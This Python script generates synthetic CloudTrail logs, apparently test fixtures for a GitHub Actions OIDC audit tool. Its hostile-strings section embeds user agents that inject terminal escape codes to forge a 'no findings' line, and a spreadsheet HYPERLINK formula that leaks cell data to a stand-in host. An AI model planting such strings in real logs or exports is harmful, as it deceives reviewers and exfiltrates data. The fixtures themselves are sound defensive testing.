#!/usr/bin/env python3
"""Writes sample-logs/: a small, realistic CloudTrail trail in the S3 layout.

One week (Mon 2026-11-16 .. Sun 2026-11-22) of a fictional organisation
"acme" (account 111122223333, plus a sandbox account 444455556666) whose
GitHub Actions workflows assume IAM roles through OIDC. Every case that
ctaudit's reports look for is here once or more, with ordinary noise around
it, and so is what they must *not* flag. Deterministic: running it again
writes the same bytes.

    python3 scripts/make-sample-logs.py [OUT_DIR]
"""

import gzip
import hashlib
import io
import json
import os
import sys
from collections import defaultdict
from datetime import datetime, timedelta, timezone

ACCT = "111122223333"
SANDBOX = "444455556666"
PROVIDER = f"arn:aws:iam::{ACCT}:oidc-provider/token.actions.githubusercontent.com"
GHA_UA = "aws-sdk-nodejs/2.1692.0 linux/v20.18.1 configure-aws-credentials-for-github-actions promise"
RUNNER_CLI = ("aws-cli/2.22.0 md/awscrt#0.22.0 ua/2.0 os/linux#6.8.0-1017-azure md/arch#x86_64 "
              "lang/python#3.12.6 md/pyimpl#CPython cfg/retry-mode#standard md/installer#exe "
              "md/distrib#ubuntu.24 md/prompt#off md/command#s3.sync")
LAPTOP_CLI = "aws-cli/2.15.30 Python/3.11.8 Darwin/23.4.0 exe/x86_64 prompt/off command/s3.ls"
TF_UA = ("APN/1.0 HashiCorp/1.0 Terraform/1.9.5 (+https://www.terraform.io) "
         "terraform-provider-aws/5.70.0 (+https://registry.terraform.io/providers/hashicorp/aws) "
         "aws-sdk-go-v2/1.30.5 os/linux lang/go#1.22.7 md/GOOS#linux md/GOARCH#amd64 exec-env/jenkins")
GH_IPS = ["20.42.11.7", "52.176.3.19", "4.227.60.101", "172.183.51.40"]

events = []
counter = [0]


def eid():
    counter[0] += 1
    h = hashlib.sha1(f"ctaudit-sample-{counter[0]}".encode()).hexdigest()
    return f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:32]}"


def at(day, hh, mm, ss=0):
    """A UTC instant on 2026-11-<day>."""
    return datetime(2026, 11, day, hh, mm, ss, tzinfo=timezone.utc)


def iso(t):
    return t.strftime("%Y-%m-%dT%H:%M:%SZ")


def key(prefix, n):
    return prefix + hashlib.sha1(f"{prefix}{n}".encode()).hexdigest().upper()[:16]


def base(t, name, source, region="us-east-1", account=ACCT):
    return {
        "eventVersion": "1.09",
        "eventTime": iso(t),
        "eventSource": source,
        "eventName": name,
        "awsRegion": region,
        "requestID": eid(),
        "eventID": eid(),
        "readOnly": name.startswith(("Get", "List", "Describe", "Lookup")),
        "eventType": "AwsApiCall",
        "managementEvent": True,
        "recipientAccountId": account,
        "eventCategory": "Management",
    }


# The role session name some workflows set (configure-aws-credentials'
# role-session-name); the others keep its default, GitHubActions.
SESSION_NAMES = {"acme/infra": "terraform-plan", "acme/ops": "nightly-sync", "acme/web": "web-deploy"}


def session_name(subject):
    repo = subject.split(":")[1] if subject.startswith("repo:") else ""
    return SESSION_NAMES.get(repo, "GitHubActions")


def web_identity(t, role, subject, audience="sts.amazonaws.com", error=None, region="us-east-1",
                 account=ACCT, ip=None, followups=(), duration=3600):
    """An AssumeRoleWithWebIdentity call; on success, the session's follow-up calls."""
    session = session_name(subject)
    provider = f"arn:aws:iam::{account}:oidc-provider/token.actions.githubusercontent.com"
    role_arn = f"arn:aws:iam::{account}:role/{role}"
    ev = base(t, "AssumeRoleWithWebIdentity", "sts.amazonaws.com", region, account)
    ip = ip or GH_IPS[counter[0] % len(GH_IPS)]
    ev.update({
        "userIdentity": {
            "type": "WebIdentityUser",
            "principalId": f"{provider}:{audience}:{subject}",
            "userName": subject,
            "identityProvider": provider,
        },
        "sourceIPAddress": ip,
        "userAgent": GHA_UA,
        "requestParameters": {"roleArn": role_arn, "roleSessionName": session, "durationSeconds": duration},
        "resources": [{"accountId": account, "type": "AWS::IAM::Role", "ARN": role_arn}],
        "additionalEventData": {"identityProviderConnectionVerificationMethod": "IAMTrustStore"},
        "tlsDetails": {"tlsVersion": "TLSv1.3", "cipherSuite": "TLS_AES_128_GCM_SHA256",
                       "clientProvidedHostHeader": f"sts.{region}.amazonaws.com"},
    })
    if error:
        code, message = error
        ev["errorCode"] = code
        ev["errorMessage"] = message
        ev["responseElements"] = None
        events.append(ev)
        return
    access_key = key("ASIA", counter[0])
    ev["responseElements"] = {
        "credentials": {
            "accessKeyId": access_key,
            "sessionToken": "IQoJb3JpZ2luX2VjEXAMPLESESSIONTOKEN" + "x" * 40,
            "expiration": (t + timedelta(hours=1)).strftime("%b %-d, %Y, %-I:%M:%S %p"),
        },
        "subjectFromWebIdentityToken": subject,
        "assumedRoleUser": {"assumedRoleId": f"AROA{ACCT}EXAMPLE:{session}",
                            "arn": f"arn:aws:sts::{account}:assumed-role/{role}/{session}"},
        "provider": provider,
        "audience": audience,
    }
    events.append(ev)
    followup_calls(t, role, role_arn, access_key, account, region, ip, provider, followups, session)
    return access_key


def followup_calls(t, role, role_arn, access_key, account, region, ip, provider, followups,
                   session="GitHubActions"):
    for i, (name, source) in enumerate(followups):
        f = base(t + timedelta(seconds=20 + 7 * i), name, source, region, account)
        f.update({
            "userIdentity": {
                "type": "AssumedRole",
                "principalId": f"AROA{ACCT}EXAMPLE:{session}",
                "arn": f"arn:aws:sts::{account}:assumed-role/{role}/{session}",
                "accountId": account,
                "accessKeyId": access_key,
                "sessionContext": {
                    "sessionIssuer": {"type": "Role", "principalId": f"AROA{ACCT}EXAMPLE",
                                      "arn": role_arn, "accountId": account, "userName": role},
                    "webIdFederationData": {"federatedProvider": provider, "attributes": {}},
                    "attributes": {"creationDate": iso(t), "mfaAuthenticated": "false"},
                },
            },
            "sourceIPAddress": ip,
            "userAgent": RUNNER_CLI,
            "requestParameters": {"bucketName": "acme-artifacts"} if source == "s3.amazonaws.com" else {},
            "responseElements": None,
        })
        events.append(f)



def user_key_call(t, user, access_key, name, source, ua, ip, region="us-east-1", root=False, error=None):
    ev = base(t, name, source, region)
    ev["userIdentity"] = (
        {"type": "Root", "principalId": ACCT, "arn": f"arn:aws:iam::{ACCT}:root", "accountId": ACCT,
         "accessKeyId": access_key}
        if root else
        {"type": "IAMUser", "principalId": key("AIDA", user), "arn": f"arn:aws:iam::{ACCT}:user/{user}",
         "accountId": ACCT, "accessKeyId": access_key, "userName": user}
    )
    ev.update({"sourceIPAddress": ip, "userAgent": ua, "requestParameters": {}, "responseElements": None})
    if error:
        ev["errorCode"], ev["errorMessage"] = error
    events.append(ev)


def session_call(t, name, source, params, response=None, user="admin", region="us-east-1"):
    """A call by a person's SSO session (ASIA key): noise for the reports."""
    ev = base(t, name, source, region)
    ev.update({
        "userIdentity": {
            "type": "AssumedRole",
            "principalId": f"AROAADMINEXAMPLE:{user}@acme.example",
            "arn": f"arn:aws:sts::{ACCT}:assumed-role/AWSReservedSSO_AdministratorAccess_0123456789abcdef/{user}@acme.example",
            "accountId": ACCT,
            "accessKeyId": key("ASIA", f"sso-{user}"),
            "sessionContext": {"sessionIssuer": {"type": "Role",
                                                 "arn": f"arn:aws:iam::{ACCT}:role/aws-reserved/sso.amazonaws.com/AWSReservedSSO_AdministratorAccess_0123456789abcdef"},
                               "attributes": {"creationDate": iso(t), "mfaAuthenticated": "false"}},
        },
        "sourceIPAddress": "198.51.100.23",
        "userAgent": "aws-internal/3 aws-sdk-java/1.12.770 Linux/5.10 OpenJDK_64-Bit_Server_VM/25.412 java/1.8.0_412",
        "requestParameters": params,
        "responseElements": response,
    })
    events.append(ev)


DEPLOY_STEPS = [("GetCallerIdentity", "sts.amazonaws.com"), ("PutObject", "s3.amazonaws.com"),
                ("UpdateFunctionCode20150331v2", "lambda.amazonaws.com")]
PLAN_STEPS = [("GetCallerIdentity", "sts.amazonaws.com"), ("DescribeStacks", "cloudformation.amazonaws.com")]
SYNC_STEPS = [("ListObjectsV2", "s3.amazonaws.com"), ("PutObject", "s3.amazonaws.com")]

# --- Ordinary, expected activity: deploys from main and production during
# Berlin business hours (08:00-19:00 CET = 07:00-18:00 UTC), Mon-Fri.
for day in (16, 17, 19, 20):
    for hh, mm in ((8, 12), (10, 47), (13, 5), (15, 31)):
        web_identity(at(day, hh, mm), "gha-prod-deploy", "repo:acme/api:ref:refs/heads/main", followups=DEPLOY_STEPS)
    web_identity(at(day, 9, 40), "gha-prod-deploy", "repo:acme/api:environment:production",
                 region="eu-central-1", followups=DEPLOY_STEPS)
    web_identity(at(day, 11, 2), "gha-staging-deploy", "repo:acme/web:environment:staging", followups=PLAN_STEPS)
    web_identity(at(day, 14, 20), "gha-readonly-plan", "repo:acme/infra:pull_request", followups=PLAN_STEPS)
    # The immutable-id subject form, from a repository that opted in.
    web_identity(at(day, 16, 3), "gha-readonly-plan", "repo:acme@59204113/infra@771203311:pull_request")

# Scheduled nightly sync at 02:05 Berlin every day (exempt from off-hours).
for day in range(16, 23):
    web_identity(at(day, 1, 5), "gha-nightly-sync", "repo:acme/ops:ref:refs/heads/main", followups=SYNC_STEPS)

# --- failures
denied = ("AccessDenied", "Not authorized to perform sts:AssumeRoleWithWebIdentity")
# The policy allows this subject: the role's trust policy is what's wrong.
web_identity(at(17, 9, 14), "gha-staging-deploy", "repo:acme/api:environment:staging", error=denied)
web_identity(at(17, 9, 21), "gha-staging-deploy", "repo:acme/api:environment:staging", error=denied)
# A fork's pull request probing the production role.
web_identity(at(18, 13, 2), "gha-prod-deploy", "repo:mallory/api:pull_request", error=denied, ip="203.0.113.66")
# Wrong audience in the workflow.
web_identity(at(19, 10, 30), "gha-prod-deploy", "repo:acme/api:ref:refs/heads/main", audience="https://github.com/acme",
             error=("InvalidIdentityToken", "Incorrect token audience"))
# The sandbox account never registered the provider.
web_identity(at(19, 12, 0), "gha-sandbox", "repo:acme/sandbox:ref:refs/heads/main", account=SANDBOX,
             error=("InvalidIdentityToken",
                    "No OpenIDConnect provider found in your account for https://token.actions.githubusercontent.com"))
web_identity(at(20, 8, 45), "gha-prod-deploy", "repo:acme/api:ref:refs/heads/main",
             error=("ExpiredTokenException",
                    "Token expired: current date/time 1763628300 must be before the expiration date/time 1763628000"))
web_identity(at(20, 8, 50), "gha-prod-deploy", "repo:acme/api:ref:refs/heads/main",
             error=("IDPCommunicationError", "Couldn't retrieve verification key from your identity provider"))

# --- unexpected subjects (all successful: the trust policies are too broad)
web_identity(at(16, 12, 33), "gha-prod-deploy", "repo:acme-contractor/tools:ref:refs/heads/main",
             ip="198.18.7.14", followups=DEPLOY_STEPS)
web_identity(at(17, 15, 10), "gha-prod-deploy", "repo:acme/api:ref:refs/heads/feature/login", followups=DEPLOY_STEPS)
web_identity(at(18, 10, 0), "gha-prod-deploy", "repo:acme/api:environment:staging")
web_identity(at(19, 14, 44), "gha-staging-deploy", "repo:acme/web:pull_request")
web_identity(at(20, 11, 11), "gha-prod-deploy", "repo:acme/api:ref:refs/tags/v2.4.0")
web_identity(at(20, 13, 0), "gha-readonly-plan", "repo:acme/infra:pull_request", audience="https://github.com/acme")
web_identity(at(20, 15, 0), "gha-experiments", "repo:acme/lab:ref:refs/heads/main")

# --- off hours (subjects the policy allows, so only off-hours flags them)
web_identity(at(21, 10, 12), "gha-prod-deploy", "repo:acme/api:ref:refs/heads/main", followups=DEPLOY_STEPS)  # Saturday
web_identity(at(17, 22, 40), "gha-prod-deploy", "repo:acme/api:environment:production")  # Tue 23:40 Berlin
web_identity(at(18, 10, 30), "gha-prod-deploy", "repo:acme/api:ref:refs/heads/main")  # holiday (Buss- und Bettag)
web_identity(at(20, 6, 30), "gha-prod-deploy", "repo:acme/api:ref:refs/heads/main")  # Fri 07:30 Berlin

# --- long-lived IAM user keys
CI_KEY, TF_KEY, ALICE_KEY, ROOT_KEY, BACKUP_KEY = (key("AKIA", n) for n in ("ci", "tf", "alice", "root", "backup"))
for day in (16, 18, 20):
    user_key_call(at(day, 9, 3), "gh-actions-legacy", CI_KEY, "GetCallerIdentity", "sts.amazonaws.com", GHA_UA, "20.42.11.7")
    user_key_call(at(day, 9, 4), "gh-actions-legacy", CI_KEY, "PutObject", "s3.amazonaws.com", RUNNER_CLI, "20.42.11.7")
user_key_call(at(19, 13, 0), "terraform-ci", TF_KEY, "DescribeVpcs", "ec2.amazonaws.com", TF_UA, "10.20.1.5")
user_key_call(at(19, 13, 1), "terraform-ci", TF_KEY, "CreateSecurityGroup", "ec2.amazonaws.com", TF_UA, "10.20.1.5",
              error=("Client.UnauthorizedOperation", "You are not authorized to perform this operation."))
user_key_call(at(17, 16, 20), "alice", ALICE_KEY, "ListBuckets", "s3.amazonaws.com", LAPTOP_CLI, "198.51.100.23")
user_key_call(at(22, 3, 17), "root", ROOT_KEY, "ListUsers", "iam.amazonaws.com", LAPTOP_CLI, "185.220.101.4", root=True)
user_key_call(at(16, 2, 0), "legacy-backup", BACKUP_KEY, "PutObject", "s3.amazonaws.com", "Boto3/1.35.0 Python/3.9.18", "10.20.3.9")

# --- noise that mentions what the reports look for, without being it
session_call(at(16, 11, 0), "CreateAccessKey", "iam.amazonaws.com", {"userName": "gh-actions-legacy"},
             {"accessKey": {"userName": "gh-actions-legacy", "accessKeyId": key("AKIA", "new"),
                            "status": "Active", "createDate": "Nov 16, 2026, 11:00:00 AM"}})
session_call(at(16, 11, 5), "UpdateAssumeRolePolicy", "iam.amazonaws.com", {
    "roleName": "gha-prod-deploy",
    "policyDocument": json.dumps({"Version": "2012-10-17", "Statement": [{
        "Effect": "Allow", "Principal": {"Federated": PROVIDER}, "Action": "sts:AssumeRoleWithWebIdentity",
        "Condition": {"StringEquals": {"token.actions.githubusercontent.com:aud": "sts.amazonaws.com"},
                      "StringLike": {"token.actions.githubusercontent.com:sub": "repo:acme/api:*"}}}]}),
})
session_call(at(16, 11, 30), "LookupEvents", "cloudtrail.amazonaws.com", {
    "lookupAttributes": [{"attributeKey": "EventName", "attributeValue": "AssumeRoleWithWebIdentity"}],
    "maxResults": 50})
session_call(at(18, 9, 0), "AssumeRole", "sts.amazonaws.com",
             {"roleArn": f"arn:aws:iam::{ACCT}:role/OrganizationAccountAccessRole", "roleSessionName": "admin"},
             {"credentials": {"accessKeyId": key("ASIA", "admin-assume"), "sessionToken": "SECRET", "expiration": "x"},
              "assumedRoleUser": {"arn": f"arn:aws:sts::{ACCT}:assumed-role/OrganizationAccountAccessRole/admin"}})
for day in range(16, 23):
    for hh in (0, 6, 12, 18):
        ev = base(at(day, hh, 0, 7), "AssumeRole", "sts.amazonaws.com")
        ev.update({"userIdentity": {"type": "AWSService", "invokedBy": "config.amazonaws.com"},
                   "sourceIPAddress": "config.amazonaws.com", "userAgent": "config.amazonaws.com",
                   "requestParameters": {"roleArn": f"arn:aws:iam::{ACCT}:role/aws-service-role/config.amazonaws.com/AWSServiceRoleForConfig",
                                         "roleSessionName": "AWSConfig-Describe"},
                   "responseElements": {"credentials": {"accessKeyId": key("ASIA", f"cfg{day}{hh}"),
                                                        "sessionToken": "SECRET", "expiration": "x"}}})
        events.append(ev)


# --- hostile strings: every string a caller sends is theirs to choose. A
# contractor's laptop key with a user agent that tries to clear the terminal,
# retitle its window and forge a "no findings" line, and one that is a
# spreadsheet formula; an ECS task definition with a password in its
# environment, and an error message quoting a session token. ctaudit shows
# the first two as text, never runs them, and stores neither secret.
CONTRACTOR_KEY = key("AKIA", "contractor")
user_key_call(at(21, 23, 50), "contractor", CONTRACTOR_KEY, "GetCallerIdentity", "sts.amazonaws.com",
              "aws-cli/2.15.30 \x1b[2J\x1b]0;all clear\x07\rctaudit: no findings", "203.0.113.80")
user_key_call(at(21, 23, 51), "contractor", CONTRACTOR_KEY, "ListBuckets", "s3.amazonaws.com",
              '=HYPERLINK("http://203.0.113.80/?leak="&A1,"details")', "203.0.113.80",
              error=("AccessDenied", "The security token IQoJb3JpZ2luX2VjEXAMPLELEAKEDTOKEN0123456789 is not allowed"))
session_call(at(17, 10, 0), "RegisterTaskDefinition", "ecs.amazonaws.com", {
    "family": "api",
    "containerDefinitions": [{"name": "api", "image": "acme/api:2.4.0", "environment": [
        {"name": "REGION", "value": "eu-central-1"},
        {"name": "DB_PASSWORD", "value": "sample-db-password-never-stored"}]}]})

# --- the trust boundary itself changes (the trust-changes report): a deploy
# workflow of acme/api widens its own role's trust to every acme repository,
# using the session it was just given; an admin replaces the GitHub
# provider's thumbprint and attaches AdministratorAccess to the OIDC role.
WORKFLOW_KEY = web_identity(at(19, 9, 12), "gha-prod-deploy", "repo:acme/api:ref:refs/heads/main")
widen = base(at(19, 9, 13), "UpdateAssumeRolePolicy", "iam.amazonaws.com")
widen.update({
    "userIdentity": {
        "type": "AssumedRole", "principalId": f"AROA{ACCT}EXAMPLE:GitHubActions",
        "arn": f"arn:aws:sts::{ACCT}:assumed-role/gha-prod-deploy/GitHubActions", "accountId": ACCT,
        "accessKeyId": WORKFLOW_KEY,
        "sessionContext": {"sessionIssuer": {"type": "Role", "arn": f"arn:aws:iam::{ACCT}:role/gha-prod-deploy"},
                           "webIdFederationData": {"federatedProvider": PROVIDER, "attributes": {}},
                           "attributes": {"creationDate": iso(at(19, 9, 12)), "mfaAuthenticated": "false"}},
    },
    "sourceIPAddress": GH_IPS[0], "userAgent": RUNNER_CLI,
    "requestParameters": {"roleName": "gha-prod-deploy", "policyDocument": json.dumps({
        "Version": "2012-10-17", "Statement": [{
            "Effect": "Allow", "Principal": {"Federated": PROVIDER}, "Action": "sts:AssumeRoleWithWebIdentity",
            "Condition": {"StringEquals": {"token.actions.githubusercontent.com:aud": "sts.amazonaws.com"},
                          "StringLike": {"token.actions.githubusercontent.com:sub": "repo:acme/*"}}}]})},
    "responseElements": None,
})
events.append(widen)
session_call(at(19, 11, 40), "UpdateOpenIDConnectProviderThumbprint", "iam.amazonaws.com", {
    "openIDConnectProviderArn": PROVIDER, "thumbprintList": ["1c58a3a8518e8759bf075b76b750d4f2df264fcd"]})
session_call(at(19, 11, 45), "AttachRolePolicy", "iam.amazonaws.com", {
    "roleName": "gha-prod-deploy", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"})

# Issue #13: where callers come from, how long sessions last, failure bursts.
# The self-hosted build fleet assumes its role from its VPC, and once from
# an EC2 address outside it (unexpected-network, medium).
web_identity(at(20, 10, 5), "gha-selfhosted-build", "repo:acme/build:ref:refs/heads/main", ip="10.40.3.7")
web_identity(at(20, 10, 35), "gha-selfhosted-build", "repo:acme/build:ref:refs/heads/main", ip="3.120.181.40")
# Sessions asked for longer than the hour the policy allows (long-sessions).
web_identity(at(20, 13, 0), "gha-staging-deploy", "repo:acme/web:environment:staging", duration=7200)
web_identity(at(20, 14, 30), "gha-prod-deploy", "repo:acme/api:environment:production", duration=43200)
# One address trying five roles' trust within four minutes (a burst in failures).
for i, role in enumerate(["gha-prod-deploy", "gha-staging-deploy", "gha-readonly-plan",
                          "gha-selfhosted-build", "gha-experiments"]):
    web_identity(at(21, 4, 10 + i), role, "repo:mallory/api:ref:refs/heads/main", ip="203.0.113.66",
                 error=("AccessDenied", "Not authorized to perform sts:AssumeRoleWithWebIdentity"))


def write(out):
    by_file = defaultdict(list)
    for ev in sorted(events, key=lambda e: (e["eventTime"], e["eventID"])):
        t = datetime.strptime(ev["eventTime"], "%Y-%m-%dT%H:%M:%SZ")
        # Delivered in the 5-minute file after the event.
        delivered = t.replace(second=0) + timedelta(minutes=5 - t.minute % 5)
        by_file[(ev["recipientAccountId"], ev["awsRegion"], delivered)].append(ev)
    n = 0
    for (account, region, delivered), recs in sorted(by_file.items()):
        d = os.path.join(out, "AWSLogs", account, "CloudTrail", region, delivered.strftime("%Y/%m/%d"))
        os.makedirs(d, exist_ok=True)
        suffix = hashlib.sha1(f"{account}{region}{delivered}".encode()).hexdigest()[:16]
        name = f"{account}_CloudTrail_{region}_{delivered.strftime('%Y%m%dT%H%MZ')}_{suffix}.json.gz"
        write_gzip(os.path.join(d, name), {"Records": recs})
        n += len(recs)
    # One digest file, as CloudTrail writes them hourly beside the logs.
    dd = os.path.join(out, "AWSLogs", ACCT, "CloudTrail-Digest", "us-east-1", "2026", "11", "16")
    os.makedirs(dd, exist_ok=True)
    write_gzip(os.path.join(dd, f"{ACCT}_CloudTrail-Digest_us-east-1_acme-trail_us-east-1_20261116T120000Z.json.gz"), {
        "awsAccountId": ACCT, "digestStartTime": "2026-11-16T11:00:00Z", "digestEndTime": "2026-11-16T12:00:00Z",
        "digestS3Bucket": "acme-cloudtrail", "digestS3Object": "AWSLogs/...", "newestEventTime": "2026-11-16T11:59:00Z",
        "previousDigestS3Bucket": "acme-cloudtrail", "previousDigestSignature": "00", "logFiles": []})
    return n


def write_gzip(path, doc):
    raw = io.BytesIO()
    with gzip.GzipFile(fileobj=raw, mode="wb", mtime=0) as gz:
        gz.write(json.dumps(doc, separators=(",", ":")).encode())
    with open(path, "wb") as f:
        f.write(raw.getvalue())


if __name__ == "__main__":
    out = sys.argv[1] if len(sys.argv) > 1 else "sample-logs"
    print(f"{write(out)} events written under {out}/AWSLogs")
